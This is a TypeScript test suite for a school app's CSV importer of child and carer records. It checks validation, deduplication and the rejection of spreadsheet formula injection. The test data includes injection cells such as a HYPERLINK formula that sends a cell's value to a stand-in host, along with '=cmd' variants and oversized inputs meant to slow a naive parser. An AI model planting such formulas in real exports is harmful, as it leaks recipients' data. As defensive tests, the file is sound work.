import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { EMAIL_LANGUAGES } from "../offers/i18n/emailLanguages";
import { parseFamiliesCsv } from "./misCsv";
import { isFormulaLike } from "./spreadsheetCell";

const HEADER = "ChildId,ChildName,CarerName,CarerEmail,PreferredLanguage,Household,StandingAdjustments";

describe("parseFamiliesCsv on files a school really sends", () => {
  it("imports a carer listed twice (SAMIRA@ and samira@) once, and reports the later row", () => {
    const { rows, problems } = parseFamiliesCsv(
      [
        HEADER,
        "GP1004,Noor Aziz,Samira Aziz,SAMIRA@example.net,ar,1,",
        "GP1004,Noor Aziz,Faisal Aziz,faisal@example.net,ar,1,",
        "GP1004,Noor Aziz,Samira Aziz,samira@Example.NET,ar,1,",
        // The same carer of a sibling is a second record, not a duplicate.
        "GP1005,Amir Aziz,Samira Aziz,samira@example.net,ar,1,",
      ].join("\n"),
    );
    expect(rows.map((r) => `${r.childId} ${r.carerEmail}`)).toEqual([
      "GP1004 samira@example.net",
      "GP1004 faisal@example.net",
      "GP1005 samira@example.net",
    ]);
    expect(problems).toEqual([
      {
        row: 4,
        messages: ["The same carer as row 2 (samira@example.net for GP1004); only row 2 is imported."],
      },
    ]);
  });

  it("refuses every cell a spreadsheet would run as a formula, saying which column", () => {
    const { rows, problems } = parseFamiliesCsv(
      [
        HEADER,
        'GP1,Ava Kerr,"=HYPERLINK(""http://x.example/?""&A1,""Ann"")",ann@example.net,en,1,',
        "GP2,+Ben Ali,Bea Ali,bea@example.net,en,1,",
        "GP3,Cal Reid,-Cat Reid,cat@example.net,en,1,",
        "GP4,Dee Roy,Dan Roy,@dan@example.net,en,1,",
        'GP5,Eve Lee,"\tEli Lee",eli@example.net,en,1,',
        'GP6,Fin Orr,"\r=cmd",fay@example.net,en,1,',
        'GP7,Gus Hay,"  =1+1",gil@example.net,en,1,',
        "GP8,Hal Bo,Hana Bo,hana@example.net,en,1,Step-free access; =SUM(A1)",
        // A hyphen or plus inside a value is ordinary text.
        "GP9,Ann-Marie Kay,Jo Kay,jo+school@example.net,en,1,",
      ].join("\r\n"),
    );
    expect(rows.map((r) => r.childName)).toEqual(["Ann-Marie Kay"]);
    expect(problems).toEqual([
      {
        row: 2,
        messages: ['CarerName starts with "=", which a spreadsheet would run as a formula; remove it.'],
      },
      {
        row: 3,
        messages: ['ChildName starts with "+", which a spreadsheet would run as a formula; remove it.'],
      },
      {
        row: 4,
        messages: ['CarerName starts with "-", which a spreadsheet would run as a formula; remove it.'],
      },
      {
        row: 5,
        messages: ['CarerEmail starts with "@", which a spreadsheet would run as a formula; remove it.'],
      },
      {
        row: 6,
        messages: ["CarerName starts with a tab, which a spreadsheet would run as a formula; remove it."],
      },
      {
        row: 7,
        messages: [
          "CarerName starts with a line break, which a spreadsheet would run as a formula; remove it.",
        ],
      },
      {
        row: 8,
        messages: ['CarerName starts with "=", which a spreadsheet would run as a formula; remove it.'],
      },
      {
        row: 9,
        messages: [
          'StandingAdjustments has "=SUM(A1)", which a spreadsheet would run as a formula; remove it.',
        ],
      },
    ]);
  });

  it("refuses a cell that was not read right (J\uFFFDzef) instead of importing it", () => {
    const { rows, problems } = parseFamiliesCsv(
      `${HEADER}\nGP1,Ava Kerr,J\uFFFDzef Nowak,jozef@example.net,pl,1,`,
    );
    expect(rows).toEqual([]);
    expect(problems).toEqual([
      {
        row: 2,
        messages: [
          'CarerName "J\uFFFDzef Nowak" has characters that could not be read; save the file as CSV UTF-8.',
        ],
      },
    ]);
  });

  it("checks language, household and adjustments against what the app knows, all problems on one line", () => {
    const { rows, problems } = parseFamiliesCsv(
      [
        HEADER,
        "GP1,Ava Kerr,Ann Kerr,ann@example.net,fr,Smith house,Carrier pigeon; Step-free access; Taxi",
        "GP2,Ben Ali,Bea Ali,bea@example.net,Polish,02,Interpreter (Polish); hearing loop",
        "GP3,Cal Reid,Cat Reid,cat@example.net,ur-PK,,",
      ].join("\n"),
    );
    expect(problems).toEqual([
      {
        row: 2,
        messages: [
          '"fr" is not a language the emails are written in (en, ar, cy, gd, pa, pl, ro, uk, ur, pnb); write en and add an interpreter to StandingAdjustments if the family needs one.',
          'Household is "Smith house"; number each household of a child 1, 2, 3… (blank means 1).',
          'StandingAdjustments: "Carrier pigeon", "Taxi" are not adjustments the app knows (interpreter, BSL or sign language, step-free access, hearing loop, large print, easy read, papers in advance, translated papers, online, longer meeting, quiet room, breaks, fewer people, time of day).',
        ],
      },
    ]);
    expect(rows.map((r) => [r.preferredLanguage, r.household, r.standingAdjustments])).toEqual([
      ["pl", "2", ["Interpreter (Polish)", "hearing loop"]],
      ["ur-PK", "1", []],
    ]);
  });

  it("counts what it lists: one entry per row left out, numbered as a spreadsheet numbers them", () => {
    const csv = [
      HEADER,
      "GP1,Ava Kerr,Ann Kerr,ann@example.net,en,1,",
      "",
      "GP2,Ben Ali,,bea@example.net,xx-!,1,",
      "GP3,Cal Reid,Cat Reid,cat@,en,9,",
      "GP4,Dee Roy,Dan Roy,dan@example.net,en,10,",
      "GP5,Eve Lee,Eli Lee,eli@example.net,en,1,Cake",
      "GP1,Ava Kerr,Ann Kerr,ANN@example.net,en,1,",
      "GP6,Fin Orr,=Fay Orr,fay@example.net,en,1,",
      'GP7,Gus Hay,Gil Hay,gil@example.net,en,1,"Quiet room',
    ].join("\n");
    const { rows, problems } = parseFamiliesCsv(csv);
    expect(rows.map((r) => r.childId)).toEqual(["GP1"]);
    expect(problems.map((p) => p.row)).toEqual([4, 5, 6, 7, 8, 9, 10]);
    expect(problems.map((p) => p.messages.length)).toEqual([2, 1, 1, 1, 1, 1, 1]);
    expect(problems[6]?.messages[0]).toBe(
      'A quote (") is opened and never closed, so the rest was read as one cell.',
    );
  });

  it("says why a file cannot be read at all, separately from its rows", () => {
    const huge = `${HEADER}\n${"GP1,A,B,b@example.net,en,1,\n".repeat(20_001)}`;
    expect(parseFamiliesCsv(huge)).toEqual({
      rows: [],
      problems: [],
      fileProblem: "The file has more than 20,000 rows.",
    });
  });
});

/** A cell as a hostile or careless export could hold it. */
const cell = fc.oneof(
  fc.constantFrom(
    "",
    "GP1",
    "GP2",
    "Ann Kerr",
    "ann@example.net",
    "ANN@EXAMPLE.NET",
    "en",
    "pl",
    "fr",
    "1",
    "2",
    "A",
  ),
  fc.constantFrom(
    "=1+1",
    "+44",
    "-x",
    "@a",
    "\tTab",
    "\rCR",
    " =x",
    "Interpreter; Taxi",
    "Quiet room",
    "J\uFFFDzef",
  ),
  fc.string({ maxLength: 12 }),
  fc.string({ unit: "grapheme", maxLength: 8 }),
);

describe("parseFamiliesCsv on any file", () => {
  it("accounts for every row exactly once and imports nothing it should not", () => {
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 7, maxLength: 7 }), { maxLength: 30 }), (data) => {
        const csv = Papa.unparse([HEADER.split(","), ...data], { newline: "\r\n" });
        const { rows, problems, fileProblem } = parseFamiliesCsv(csv);
        expect(fileProblem).toBeUndefined();
        const nonBlank = data.filter((r) => r.some((c) => c.trim() !== "")).length;
        expect(rows.length + problems.length).toBe(nonBlank);
        expect(new Set(problems.map((p) => p.row)).size).toBe(problems.length);
        for (const p of problems) expect(p.messages.length).toBeGreaterThan(0);
        const keys = rows.map((r) => `${r.childId}|${r.carerEmail}`);
        expect(new Set(keys).size).toBe(keys.length);
        for (const r of rows) {
          const stored = [
            r.childId,
            r.childName,
            r.carerName,
            r.carerEmail,
            r.household,
            ...r.standingAdjustments,
          ];
          for (const v of stored) {
            expect(isFormulaLike(v)).toBe(false);
            expect(v).not.toContain("\uFFFD");
          }
          expect(r.carerEmail).toBe(r.carerEmail.toLowerCase());
          expect(EMAIL_LANGUAGES).toContain(r.preferredLanguage.split("-")[0]);
          expect(r.household).toMatch(/^[1-9]$/);
        }
      }),
      { numRuns: 400 },
    );
  }, 30_000);

  it("reads a 2 MB hostile file in linear time", () => {
    const hostile = (n: number) =>
      `${HEADER}\n${[
        `GP1,A,B,a@${".".repeat(n)}<,en,1,`,
        `GP1,A,B,b@example.net,${"a-".repeat(n / 2)},1,`,
        `GP1,A,B,c@example.net,en,1,${"step;".repeat(n / 5)}`,
        `GP1,A,B,d@example.net,en,1,"${'""'.repeat(n / 2)}`,
      ].join("\n")}`;
    const time = (n: number) => {
      const started = performance.now();
      const { rows, problems } = parseFamiliesCsv(hostile(n));
      expect(rows.length + problems.length).toBe(4);
      return performance.now() - started;
    };
    time(10_000);
    const small = time(50_000);
    const large = time(500_000);
    // Ten times the input; a quadratic reader would take about a hundred times as long.
    expect(large).toBeLessThan(Math.max(small, 5) * 30);
    expect(large).toBeLessThan(3_000);
  }, 20_000);
});
